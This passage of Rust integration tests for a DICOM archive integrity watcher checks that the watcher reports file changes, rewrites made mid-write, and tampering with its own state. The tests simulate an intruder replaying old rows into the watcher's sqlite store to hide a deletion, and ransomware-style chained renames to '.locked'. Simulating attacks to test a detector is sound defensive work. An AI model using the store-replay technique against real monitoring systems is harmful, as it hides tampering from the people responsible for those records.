        String::from_utf8_lossy(&edited.stderr)
    );
    let watcher = Watcher::start(&env, &[]);
    // A file found new by the catch-up may wait a quiet period (if still being written).
    watcher.wait(Duration::from_secs(20), |f, _| {
        tally(f, &env.tree).contains_key(&("added".into(), "study/arrived.dcm".into()))
    });
    std::thread::sleep(Duration::from_millis(500)); // time for a duplicate to show
    let (code, findings, stderr) = watcher.stop();
    let t = tally(&findings, &env.tree);
    assert_eq!(
        t.get(&("watch-state-altered".into(), "study/arrived.dcm".into())),
        Some(&1),
        "{findings:#?}\n{stderr}"
    );
    // Compared with the profile instead: an arrival again, not hidden.
    assert_eq!(
        t.get(&("added".into(), "study/arrived.dcm".into())),
        Some(&1),
        "{findings:#?}"
    );
    assert_eq!(code, 1);
}

/// Review s6-r11: rows are not chained, so an older row that said a profiled file was
/// gone, put back with sqlite3 after the file was deleted again while no watcher ran, hid
/// that deletion: the restart reported nothing and exited 0. The whole kept set is now
/// bound to the trail (its tag announced before each save, confirmed after, signed into
/// the checkpoints): a set the trail does not allow is an alert, no row of it is trusted,
/// and the deletion is compared with the profile and reported.
#[test]
fn an_older_row_set_replayed_in_the_store_does_not_hide_a_deletion_made_while_down() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    let sample = &pydicom_samples(1)[0];
    let image = env.path("study/series/image.dcm");
    fs::copy(sample, &image).expect("test fixture");
    let other = env.path("study/series/other.dcm");
    fs::copy(sample, &other).expect("test fixture");
    env.profile(&["--policy", "append-only"]);
    let store = env.home.join("pacsguard.db");
    let sql = |statement: &str| {
        let out = std::process::Command::new("sqlite3")
            .arg(&store)
            .arg(statement)
            .output()
            .expect("sqlite3 runs (scripts/setup-test-deps.sh)");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    // Deleted while watched: reported, and the rows "gone" are kept. The intruder copies them.
    let watcher = Watcher::start(&env, &[]);
    fs::remove_dir_all(env.path("study/series")).expect("test fixture");
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        let t = tally(f, &env.tree);
        t.keys().any(|(_, p)| p.starts_with("study/series"))
    });
    std::thread::sleep(Duration::from_millis(500));
    let (_, findings, _) = watcher.stop();
    assert!(seen, "{findings:#?}");
    let saved = sql("SELECT count(*) FROM watch_seen; \
         CREATE TABLE replay AS SELECT * FROM watch_seen;");
    assert_ne!(saved, "0", "rows were kept");
    // Restored from backup while watched (reported, the rows now say "present").
    let watcher = Watcher::start(&env, &[]);
    fs::create_dir_all(env.path("study/series")).expect("test fixture");
    fs::copy(sample, &image).expect("test fixture");
    fs::copy(sample, &other).expect("test fixture");
    // All three arrivals, the directory too: the files (fanotify, 20 ms grace) may be
    // reported before the directory (inotify, another thread) on a loaded host, and a
    // stop between them leaves the directory for the next start to report, which then
    // is not quiet (review s10-r11: the flaky extra `added study/series`).
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        let t = tally(f, &env.tree);
        [
            "study/series",
            "study/series/image.dcm",
            "study/series/other.dcm",
        ]
        .iter()
        .all(|p| t.keys().any(|(_, q)| q == p))
    });
    let (_, findings, _) = watcher.stop();
    assert!(seen, "{findings:#?}");
    // A restart with nothing changed is quiet: the set is the one the trail confirmed.
    let watcher = Watcher::start(&env, &[]);
    let (code, findings, stderr) = watcher.stop();
    assert!(findings.is_empty(), "{findings:#?}\n{stderr}");
    assert_eq!(code, 0);
    // While no watcher runs: both deleted again, and the old rows put back.
    fs::remove_dir_all(env.path("study/series")).expect("test fixture");
    sql("DELETE FROM watch_seen; INSERT INTO watch_seen SELECT * FROM replay; DROP TABLE replay;");
    let watcher = Watcher::start(&env, &[]);
    let (code, findings, stderr) = watcher.stop();
    let t = tally(&findings, &env.tree);
    for rel in ["study/series/image.dcm", "study/series/other.dcm"] {
        assert!(
            t.keys()
                .any(|(kind, p)| p == rel && (kind == "removed" || kind == "moved")),
            "{rel} deleted while down is reported: {findings:#?}\n{stderr}"
        );
    }
    let altered = findings
        .iter()
        .filter(|f| f["kind"] == "watch-state-altered" && f["severity"] == "alert")
        .filter(|f| f["path"].as_str() == store.to_str())
        .count();
    assert_eq!(altered, 1, "the replayed set is an alert: {findings:#?}");
    assert_eq!(code, 1, "{findings:#?}");
    // The untrusted rows were dropped: the next start compares with the profile again,
    // and the trail allows the (empty) set it now holds: no second alert about the store.
    let watcher = Watcher::start(&env, &[]);
    let (_, findings, stderr) = watcher.stop();
    assert!(
        !findings.iter().any(|f| f["kind"] == "watch-state-altered"),
        "{findings:#?}\n{stderr}"
    );
    // And the trail with the new checkpoint line still verifies.
    let verify = env.run(&["audit", "verify"]);
    assert!(
        verify.status.success(),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );
}

/// An ingest still queued for screening when the watcher stops is one `not-inspected`
/// warning with the count (the paths on the trail), not one per file, and the next start
/// reports and screens those arrivals again; what was found before the stop is not
/// reported again, what was not is. Reduced scale of bench/watch.sh's burst (in rescan
/// mode, `max_watches = 10`): on a fast machine nothing is left at the stop.
#[test]
fn arrivals_still_queued_at_the_stop_are_one_warning_and_screened_at_the_next_start() {
    const FILES: usize = 1500;
    let env = Env::new();
    configure(
        &env,
        "scrub_mb_per_s = 0\nmax_watches = 10\npoll_seconds = 1\n",
    );
    env.profile(&["--policy", "append-only"]);
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let watcher = Watcher::start(&env, &[]);
    for i in 0..FILES {
        let dir = env.path(&format!("ingest/{}", i / 100));
        fs::create_dir_all(&dir).expect("test fixture");
        fs::copy(&sample, dir.join(format!("{i}.dcm"))).expect("pydicom sample");
    }
    // Stopped while the rescan finds them, when many wait for screening.
    let found = watcher.wait(Duration::from_secs(120), |f, _| {
        f.iter().filter(|f| f["kind"] == "added").count() >= FILES / 2
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(found, "{stderr}");
    // New files still put off as written a moment ago are one warning of their own
    // (`unjudged-at-stop`, review r29-watch2), apart from the queued arrivals'.
    let unjudged_at_stop = |f: &Value| {
        f["fields"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x == "unjudged-at-stop"))
    };
    assert!(
        findings
            .iter()
            .filter(|f| f["kind"] == "not-inspected" && unjudged_at_stop(f))
            .count()
            <= 1,
        "{findings:#?}"
    );
    let not_inspected: Vec<&Value> = findings
        .iter()
        .filter(|f| f["kind"] == "not-inspected" && !unjudged_at_stop(f))
        .collect();
    assert!(
        not_inspected.len() <= 1,
        "one summary, not one per file: {} of them, e.g. {:#?}",
        not_inspected.len(),
        &not_inspected[..not_inspected.len().min(3)]
    );
    // On a fast machine the workers finish within the stop's grace: then nothing is left.
    let left = not_inspected.first().map_or(0, |summary| {
        let detail = summary["detail"].as_str().unwrap_or_default();
        let left: usize = detail
            .split_whitespace()
            .next()
            .and_then(|n| n.parse().ok())
            .expect("the summary starts with the count");
        assert!(
            left > 0 && detail.contains("arrivals still queued"),
            "{detail}"
        );
        left
    });
    let show = env.run(&["audit", "show", "--json", "--action", "watch"]);
    let records: Value = serde_json::from_slice(&show.stdout).expect("audit show");
    let listed: usize = records["records"]
        .as_array()
        .expect("records")
        .iter()
        .filter(|r| {
            r["detail"]
                .as_str()
                .is_some_and(|d| d.starts_with("not verified before the stop"))
        })
        .map(|r| r["objects"].as_array().map_or(0, Vec::len))
        .sum();
    assert_eq!(listed, left, "every path on the trail");

    // The next start: every file not reported before the stop, and those not screened.
    let reported: std::collections::HashSet<String> = findings
        .iter()
        .filter(|f| f["kind"] == "added" && f["path"].as_str().is_some_and(|p| p.ends_with(".dcm")))
        .filter_map(|f| f["path"].as_str().map(str::to_string))
        .collect();
    let expected = FILES - reported.len() + left;
    let watcher = Watcher::start(&env, &[]);
    let again = watcher.wait(Duration::from_secs(120), |f, _| {
        f.iter()
            .filter(|f| {
                f["kind"] == "added" && f["path"].as_str().is_some_and(|p| p.ends_with(".dcm"))
            })
            .count()
            >= expected
    });
    std::thread::sleep(Duration::from_secs(1));
    let (_, findings, stderr) = watcher.stop();
    assert!(again, "{stderr}");
    let added = findings
        .iter()
        .filter(|f| f["kind"] == "added" && f["path"].as_str().is_some_and(|p| p.ends_with(".dcm")))
        .count();
    assert_eq!(added, expected, "{stderr}");
}

/// Review s6-r11: a writer that changes the file's attributes while it still writes it
/// (Rust's `std::fs::copy` fchmods the destination it has just truncated, then writes;
/// rsync, install and tar set times or owner as they go) had the attribute event taken
/// for a close: the half-written file was judged at once and called `no-longer-dicom`
/// (3 to 5 of 5 re-compressions), then `content-changed` when the writer closed it.
/// Real files: pydicom's CT_small.dcm, re-compressed by dcmtk's dcmcrle, copied back over
/// the original in place by python3 in 4 KiB steps and by `std::fs::copy`.
#[test]
fn an_attribute_change_while_a_writer_still_writes_is_not_judged_mid_write() {
    const MODES: [&str; 3] = ["fchmod", "utime", "fchown"];
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let archive = env.path("archive");
    fs::create_dir_all(&archive).expect("test fixture");
    let paths: Vec<std::path::PathBuf> = (0..MODES.len() + 2)
        .map(|i| {
            let path = archive.join(format!("{i}.dcm"));
            fs::copy(&sample, &path).expect("pydicom's CT_small.dcm");
            path
        })
        .collect();
    env.profile(&["--policy", "append-only"]);
    let staging = env.dir.path().join("staging");
    fs::create_dir_all(&staging).expect("test fixture");
    let watcher = Watcher::start(&env, &[]);
    let writer = "import os, sys, time\n\
        mode, src, dst = sys.argv[1:4]\n\
        data = open(src, 'rb').read()\n\
        fd = os.open(dst, os.O_WRONLY | os.O_TRUNC)\n\
        if mode == 'fchmod': os.fchmod(fd, 0o644)\n\
        for i in range(0, len(data), 4096):\n\
        \x20   os.write(fd, data[i:i + 4096])\n\
        \x20   if i == 8192 and mode == 'utime': os.utime(fd, None)\n\
        \x20   if i == 8192 and mode == 'fchown': os.fchown(fd, os.getuid(), os.getgid())\n\
        \x20   time.sleep(0.03)\n\
        os.close(fd)\n";
    for (i, path) in paths.iter().enumerate() {
        let out = staging.join(format!("{i}.dcm"));
        let status = std::process::Command::new("dcmcrle")
            .arg(path)
            .arg(&out)
            .status()
            .expect("dcmtk runs (scripts/setup-test-deps.sh)");
        assert!(status.success(), "dcmcrle {}", path.display());
        match MODES.get(i) {
            Some(mode) => {
                let status = std::process::Command::new("python3")
                    .args(["-c", writer, mode])
                    .arg(&out)
                    .arg(path)
                    .status()
                    .expect("python3 runs");
                assert!(status.success(), "python3 writer {mode}");
            }
            None => {
                fs::copy(&out, path).expect("test fixture");
            }
        }
    }
    let rel = |p: &Path| {
        p.strip_prefix(&env.tree)
            .expect("in the tree")
            .to_string_lossy()
            .into_owned()
    };
    let rewritten: Vec<String> = paths.iter().map(|p| rel(p)).collect();
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        let t = tally(f, &env.tree);
        rewritten
            .iter()
            .all(|p| t.contains_key(&("pixel-data-changed".to_string(), p.clone())))
    });
    std::thread::sleep(Duration::from_secs(1));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    let counts = tally(&findings, &env.tree);
    for path in &rewritten {
        let about: Vec<&(String, String)> = counts
            .keys()
            .filter(|(kind, p)| p == path && kind != "events-lost")
            .collect();
        assert_eq!(
            about,
            [&("pixel-data-changed".to_string(), path.clone())],
            "{path}: one re-compression, judged once its writer closed it: {findings:#?}"
        );
        assert_eq!(
            counts.get(&("pixel-data-changed".to_string(), path.clone())),
            Some(&1),
            "{findings:#?}"
        );
    }
}

/// Review s6-r11 (`slowwrite.py twofd`): a writer rewrites a guarded image in place while
/// a second write handle (a helper probing the file) is opened and closed at once. That
/// close is a close-write event; the half-written file was judged then (`no-longer-dicom`
/// on 5 of 5). Another process still holding the file open for writing (`/proc/*/fdinfo`)
/// now makes the watcher wait for the last writer. Real files: pydicom's CT_small.dcm,
/// re-compressed by dcmtk's dcmcrle, written back by python3 in 4 KiB steps, the probe a
/// second python3 process so the first writer's handle is another process's.
#[test]
fn a_second_write_handle_closed_while_the_first_still_writes_is_not_judged_mid_write() {
    const FILES: usize = 4;
    let env = Env::new();
    // The writer waits for the probe's python3 to start and exit with no write of its
    // own: under load (review s9-r11, two busy cores) that took longer than the default
    // quiet period (0.5 s), and a file quiet that long is judged as it stands, by
    // design, before any close (the flake this test showed: `no-longer-dicom` at 4096
    // bytes). The quiet period here outlasts that start; what is tested is the close.
    configure(&env, "quiet_ms = 3000\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let archive = env.path("archive");
    fs::create_dir_all(&archive).expect("test fixture");
    let paths: Vec<std::path::PathBuf> = (0..FILES)
        .map(|i| {
            let path = archive.join(format!("{i}.dcm"));
            fs::copy(&sample, &path).expect("pydicom's CT_small.dcm");
            path
        })
        .collect();
    env.profile(&["--policy", "append-only"]);
    let staging = env.dir.path().join("staging");
    fs::create_dir_all(&staging).expect("test fixture");
    let watcher = Watcher::start(&env, &[]);
    // The writer truncates, has a probe open and close the file for writing (another
    // process, as a helper would), then writes on slowly.
    let writer = "import os, sys, time, subprocess\n\
        src, dst = sys.argv[1:3]\n\
        data = open(src, 'rb').read()\n\
        fd = os.open(dst, os.O_WRONLY | os.O_TRUNC)\n\
        os.write(fd, data[:4096])\n\
        subprocess.run([sys.executable, '-c', 'import os, sys; os.close(os.open(sys.argv[1], os.O_WRONLY))', dst], check=True)\n\
        for i in range(4096, len(data), 4096):\n\
        \x20   time.sleep(0.05)\n\
        \x20   os.write(fd, data[i:i + 4096])\n\
        os.close(fd)\n";
    for (i, path) in paths.iter().enumerate() {
        let out = staging.join(format!("{i}.dcm"));
        let status = std::process::Command::new("dcmcrle")
            .arg(path)
            .arg(&out)
            .status()
            .expect("dcmtk runs (scripts/setup-test-deps.sh)");
        assert!(status.success(), "dcmcrle {}", path.display());
        let status = std::process::Command::new("python3")
            .args(["-c", writer])
            .arg(&out)
            .arg(path)
            .status()
            .expect("python3 runs");
        assert!(status.success(), "python3 writer");
    }
    let rel = |p: &Path| {
        p.strip_prefix(&env.tree)
            .expect("in the tree")
            .to_string_lossy()
            .into_owned()
    };
    let rewritten: Vec<String> = paths.iter().map(|p| rel(p)).collect();
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        let t = tally(f, &env.tree);
        rewritten
            .iter()
            .all(|p| t.contains_key(&("pixel-data-changed".to_string(), p.clone())))
    });
    std::thread::sleep(Duration::from_secs(1));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    let counts = tally(&findings, &env.tree);
    for path in &rewritten {
        let about: Vec<&(String, String)> = counts
            .keys()
            .filter(|(kind, p)| p == path && kind != "events-lost")
            .collect();
        assert_eq!(
            about,
            [&("pixel-data-changed".to_string(), path.clone())],
            "{path}: one re-compression, judged once its last writer closed it: {findings:#?}"
        );
    }
}

/// Review s9-r11 (`close_then_write.sh`): the probe's close and the writer's next write
/// a few microseconds apart, so both are read in one turn of the loop, then the writer
/// pauses longer than the quiet period (a slow link) before writing the rest. The write
/// after the close made the path due as merely quiet: nobody asked `/proc` who still held
/// it, and the half-written image was judged (`no-longer-dicom`, a false alarm) once the
/// writer paused. The close is now remembered through the write. The probe is a second
/// descriptor of the writing process itself (one process: no fork between close and
/// write to let the loop take the close alone). Real files: pydicom's CT_small.dcm,
/// re-compressed by dcmtk's dcmcrle, written back by python3.
#[test]
fn a_close_and_a_write_read_in_one_turn_still_wait_for_the_writer() {
    const FILES: usize = 12;
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let archive = env.path("archive");
    fs::create_dir_all(&archive).expect("test fixture");
    let paths: Vec<std::path::PathBuf> = (0..FILES)
        .map(|i| {
            let path = archive.join(format!("{i}.dcm"));
            fs::copy(&sample, &path).expect("pydicom's CT_small.dcm");
            path
        })
        .collect();
    env.profile(&["--policy", "append-only"]);
    let staging = env.dir.path().join("staging");
    fs::create_dir_all(&staging).expect("test fixture");
    let watcher = Watcher::start(&env, &[]);
    // Paused 1.2 s: longer than the quiet period (0.5 s), shorter than the settle time
    // a held file may stay unchanged (2.5 s).
    let writer = "import os, sys, time\n\
        src, dst = sys.argv[1:3]\n\
        data = open(src, 'rb').read()\n\
        fd = os.open(dst, os.O_WRONLY | os.O_TRUNC)\n\
        os.write(fd, data[:4096])\n\
        time.sleep(0.2)\n\
        os.close(os.open(dst, os.O_WRONLY))\n\
        os.write(fd, data[4096:8192])\n\
        time.sleep(1.2)\n\
        os.write(fd, data[8192:])\n\
        os.close(fd)\n";
    let mut writers = Vec::new();
    for (i, path) in paths.iter().enumerate() {
        let out = staging.join(format!("{i}.dcm"));
        let status = std::process::Command::new("dcmcrle")
            .arg(path)
            .arg(&out)
            .status()
            .expect("dcmtk runs (scripts/setup-test-deps.sh)");
        assert!(status.success(), "dcmcrle {}", path.display());
        writers.push(
            std::process::Command::new("python3")
                .args(["-c", writer])
                .arg(&out)
                .arg(path)
                .spawn()
                .expect("python3 runs"),
        );
        std::thread::sleep(Duration::from_millis(300));
    }
    for mut writer in writers {
        assert!(writer.wait().expect("python3 writer").success());
    }
    let rel = |p: &Path| {
        p.strip_prefix(&env.tree)
            .expect("in the tree")
            .to_string_lossy()
            .into_owned()
    };
    let rewritten: Vec<String> = paths.iter().map(|p| rel(p)).collect();
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        let t = tally(f, &env.tree);
        rewritten
            .iter()
            .all(|p| t.contains_key(&("pixel-data-changed".to_string(), p.clone())))
    });
    std::thread::sleep(Duration::from_secs(1));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    let counts = tally(&findings, &env.tree);
    for path in &rewritten {
        let about: Vec<&(String, String)> = counts
            .keys()
            .filter(|(kind, p)| p == path && kind != "events-lost")
            .collect();
        assert_eq!(
            about,
            [&("pixel-data-changed".to_string(), path.clone())],
            "{path}: one re-compression, judged once its writer closed it: {findings:#?}"
        );
    }
}

/// Review s7-r11 (`attacks/seen_pending.sh`): two faults on a bad day, no intruder. The
/// watcher is killed after the store took a save's rows but before the trail heard the
/// save confirmed; the next run's first save announces its set and is killed before the
/// store write. The store holds the set of the first save, which the trail announced and
/// nobody changed: the third start must accept it quietly. It raised a
/// `watch-state-altered` alert and dropped every kept row (the first file reported as an
/// arrival again), because the second announcement had replaced the pending one. The
/// kills are placed with gdb breakpoints on functions (real SIGKILL, exact step).
#[test]
fn a_save_killed_before_its_confirmation_then_one_killed_before_the_store_is_no_alert() {
    let env = Env::new();
    configure(
        &env,
        "quiet_ms = 100\nscrub_mb_per_s = 0\ncheckpoint_seconds = 1\n",
    );
    env.profile(&["--policy", "append-only"]);
    let sample = &pydicom_samples(1)[0];
    // Runs the watcher under gdb, killed (SIGKILL) at the first call of `function`,
    // after `then` put a new file in place.
    let killed_at = |function: &str, then: &dyn Fn()| {
        let mut gdb = std::process::Command::new("gdb")
            .args(["-q", "-batch", "-ex", "set pagination off"])
            .args(["-ex", "handle SIGPIPE nostop noprint pass"])
            .args(["-ex", &format!("break {function}")])
            .args(["-ex", "run", "-ex", "kill", "-ex", "quit", "--args"])
            .arg(env!("CARGO_BIN_EXE_pacsguard"))
            .arg("--home")
            .arg(&env.home)
            .args(["watch", "--json"])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("gdb runs (scripts/setup-test-deps.sh)");
        std::thread::sleep(Duration::from_secs(5)); // gdb reads the symbols, the watcher starts
        then();
        let deadline = Instant::now() + Duration::from_secs(60);
        while gdb.try_wait().expect("gdb").is_none() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(200));
        }
        let _ = gdb.kill();
        let out = gdb.wait_with_output().expect("gdb output");
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(text.contains("hit Breakpoint"), "{function}: {text}");
    };
    killed_at("confirm_seen", &|| {
        fs::copy(sample, env.path("study/first.dcm")).expect("test fixture");
    });
    killed_at("put_seen", &|| {
        fs::copy(sample, env.path("study/second.dcm")).expect("test fixture");
    });
    let watcher = Watcher::start(&env, &[]);
    std::thread::sleep(Duration::from_millis(500));
    let (_, findings, stderr) = watcher.stop();
    assert!(
        !findings.iter().any(|f| f["kind"] == "watch-state-altered"),
        "{findings:#?}\n{stderr}"
    );
    let t = tally(&findings, &env.tree);
    assert!(
        !t.contains_key(&("added".to_string(), "study/first.dcm".to_string())),
        "reported in the first run, kept: {findings:#?}"
    );
}

/// The flake of `each_change_is_reported_once_and_sigterm_stops_cleanly` under load, made
/// certain: a guarded file written and closed makes the watcher look in `/proc` for other
/// writers, and for `WRITER_SCAN_INTERVAL` (100 ms) after that pass a guarded file due
/// waits for the next one. A guarded file renamed 20 ms after the edit was such a file at
/// its new path, while its old path, gone, was verified at once: `removed` now and
/// `added` ("new file of 14 bytes") 100 ms later, instead of one `moved`. Each round moves
/// the same file on, to another directory and back.
#[test]
fn a_rename_right_after_an_edit_is_one_move_not_a_removal_and_an_arrival() {
    const ROUNDS: usize = 3;
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let mut at = "study/series/2.dcm".to_string();
    let mut moves = Vec::new();
    for round in 0..ROUNDS {
        fs::write(
            env.path("study/series/1.dcm"),
            format!("DICM image one, edit {round}"),
        )
        .expect("test fixture");
        std::thread::sleep(Duration::from_millis(20));
        let to = if round % 2 == 0 {
            format!("study/2-{round}.dcm")
        } else {
            format!("study/series/2-{round}.dcm")
        };
        fs::rename(env.path(&at), env.path(&to)).expect("test fixture");
        moves.push(to.clone());
        at = to;
        // Past the next pass over /proc, with room for a loaded machine: each round is
        // its own turn of the loop.
        std::thread::sleep(Duration::from_millis(500));
    }
    let last = moves.last().expect("rounds").clone();
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        tally(f, &env.tree).contains_key(&("moved".to_string(), last.clone()))
            || f.iter().any(|f| f["kind"] == "removed")
    });
    std::thread::sleep(Duration::from_millis(500));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    let counts = tally(&findings, &env.tree);
    // Each hop is one `moved`. A watcher held up past the next round (a loaded machine)
    // finds the file already gone from a hop and reports the chain from where it last
    // saw it: a hop may then be left out, never reported twice, and the last is reported.
    assert_eq!(
        counts.get(&("moved".to_string(), last.clone())),
        Some(&1),
        "{last}: {findings:#?}"
    );
    for path in &moves {
        assert!(
            counts
                .get(&("moved".to_string(), path.clone()))
                .copied()
                .unwrap_or(0)
                <= 1,
            "{path}: {findings:#?}"
        );
    }
    let split: Vec<&Value> = findings
        .iter()
        .filter(|f| f["kind"] == "removed" || f["kind"] == "added")
        .collect();
    assert!(split.is_empty(), "a rename split in two: {split:#?}");
}

/// A receiver rewriting a guarded image (a genuine re-compression, `dcmcrle`) pauses 3 s
/// mid-file, longer than the settle time (2.5 s at the default quiet period), holding it
/// open after a helper opened and closed it for writing (the close is the event). Its
/// descriptor sits at the file's end: it is a writer at work, waited for until it
/// closes. Judged once unchanged for the settle time, the half-written image was a false
/// `no-longer-dicom` alert, then a `content-changed` one (review s8-r11).
#[test]
fn a_receiver_pausing_mid_file_longer_than_the_settle_time_is_not_judged_mid_file() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let image = env.path("study/image.dcm");
    fs::copy(&sample, &image).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let rle = env.dir.path().join("rle.dcm");
    let status = std::process::Command::new("dcmcrle")
        .arg(&sample)
        .arg(&rle)
        .status()
        .expect("dcmtk runs (scripts/setup-test-deps.sh)");
    assert!(status.success(), "dcmcrle");
    let watcher = Watcher::start(&env, &[]);
    let writer = "import os, sys, time, subprocess\n\
        src, dst = sys.argv[1:3]\n\
        data = open(src, 'rb').read()\n\
        fd = os.open(dst, os.O_WRONLY | os.O_TRUNC)\n\
        os.write(fd, data[:4096])\n\
        subprocess.run([sys.executable, '-c', 'import os, sys; os.close(os.open(sys.argv[1], os.O_WRONLY))', dst], check=True)\n\
        time.sleep(3)\n\
        os.write(fd, data[4096:])\n\
        os.close(fd)\n";
    let status = std::process::Command::new("python3")
        .args(["-c", writer])
        .arg(&rle)
        .arg(&image)
        .status()
        .expect("python3 runs");
    assert!(status.success(), "python3 writer");
    let rel = "study/image.dcm".to_string();
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        tally(f, &env.tree).contains_key(&("pixel-data-changed".to_string(), rel.clone()))
    });
    std::thread::sleep(Duration::from_secs(1));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    let counts = tally(&findings, &env.tree);
    let about: Vec<&(String, String)> = counts
        .keys()
        .filter(|(kind, p)| *p == rel && kind != "events-lost")
        .collect();
    assert_eq!(
        about,
        [&("pixel-data-changed".to_string(), rel.clone())],
        "{findings:#?}"
    );
}

/// Guarded files each renamed twice in a row, at once (`X` to `X.tmp` elsewhere, then to
/// `X.locked`: what ransomware and some receivers do). The watcher often reads the first
/// rename's events before the second rename happens and walks or hashes after it: both
/// `X` and `X.tmp` are gone then. Each file must still be one chain of `moved` from `X` to
/// `X.locked`, never `X` removed and `X.locked` added (before the fix, 12 to 47 files in
/// 60 were split so, at any load).
#[test]
fn a_file_renamed_twice_at_once_is_moved_never_removed_and_added() {
    const FILES: usize = 40;
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    for i in 0..FILES {
        fs::write(
            env.path(&format!("study/series/c{i}.dcm")),
            format!("DICM image c{i}"),
        )
        .expect("test fixture");
    }
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    for i in 0..FILES {
        let tmp = env.path(&format!("study/c{i}.dcm.tmp"));
        fs::rename(env.path(&format!("study/series/c{i}.dcm")), &tmp).expect("test fixture");
        fs::rename(&tmp, env.path(&format!("study/series/c{i}.dcm.locked"))).expect("test fixture");
        // Each file's chain is its own turn of the loop, as with a real encryptor.
        std::thread::sleep(Duration::from_millis(10));
    }
    let prefix = format!("{}/", env.tree.display());
    let rel = |v: &Value| {
        let path = v.as_str().unwrap_or_default();
        path.strip_prefix(&prefix).unwrap_or(path).to_string()
    };
    let moved = |findings: &[Value], field: &str, want: &str| {
        findings
            .iter()
            .filter(|f| f["kind"] == "moved" && rel(&f[field]) == want)
            .count()
    };
    let seen = watcher.wait(Duration::from_secs(20), |f, _| {
        (0..FILES).all(|i| moved(f, "path", &format!("study/series/c{i}.dcm.locked")) > 0)
            || f.iter().any(|f| f["kind"] == "removed")
    });
    std::thread::sleep(Duration::from_millis(500));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    let split: Vec<&Value> = findings
        .iter()
        .filter(|f| f["kind"] == "removed" || f["kind"] == "added")
        .collect();
    assert!(
        split.is_empty(),
        "{} renames split in two: {split:#?}",
        split.len() / 2
    );
    for i in 0..FILES {
        let from = format!("study/series/c{i}.dcm");
        let to = format!("study/series/c{i}.dcm.locked");
        assert_eq!(moved(&findings, "from", &from), 1, "{from}: {findings:#?}");
        assert_eq!(moved(&findings, "path", &to), 1, "{to}: {findings:#?}");
    }
}

/// Study directories each renamed in a chain, at once (`X` to `X.tmp` to `X.locked`, and
/// every third one through `X.tmp2` as well: what ransomware does to whole studies), each
/// holding a series directory. The watcher often reads the first rename's events before
/// the next rename and walks after it: `X` and `X.tmp` are both gone then. Each directory
/// must still be carried as a move to `X.locked` (its files with it), never its files
/// `removed` from `X` and `added` under `X.locked` (before the index of directory inodes,
/// 6 to 24 of 60 directories were split so).
///
/// The files were written a moment before the renames, as an encryptor working through
/// a busy store finds them: on an idle machine their mtime was still within the quiet
/// period when the renamed directory was walked, and they were put off as new files
/// still being written (`Guard::defer_unsettled`), so their old names were `removed` and
/// they were `moved` later (session 18: it failed every time on an idle machine, passed
/// under load). `quiet_ms` is long here so that the mtime is recent on any machine.
#[test]
fn a_study_directory_renamed_twice_at_once_is_moved_never_removed_and_added() {
    const STUDIES: usize = 60;
    let env = Env::new();
    configure(&env, "quiet_ms = 3000\nscrub_mb_per_s = 0\n");
    for s in 0..STUDIES {
        let dir = env.path(&format!("archive/s{s}"));
        fs::create_dir_all(dir.join("se")).expect("test fixture");
        for i in 0..2 {
            fs::write(
                dir.join(format!("{i}.dcm")),
                format!("DICM study {s} image {i}"),
            )
            .expect("test fixture");
        }
        fs::write(dir.join("se/2.dcm"), format!("DICM study {s} image 2")).expect("test fixture");
    }
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    for s in 0..STUDIES {
        let mut from = env.path(&format!("archive/s{s}"));
        let names: &[&str] = if s % 3 == 0 {
            &["tmp", "tmp2", "locked"]
        } else {
            &["tmp", "locked"]
        };
        for name in names {
            let to = env.path(&format!("archive/s{s}.{name}"));
            fs::rename(&from, &to).expect("test fixture");
            from = to;
        }
        // Each study's chain is its own turn of the loop, as with a real encryptor.
        std::thread::sleep(Duration::from_millis(10));
    }
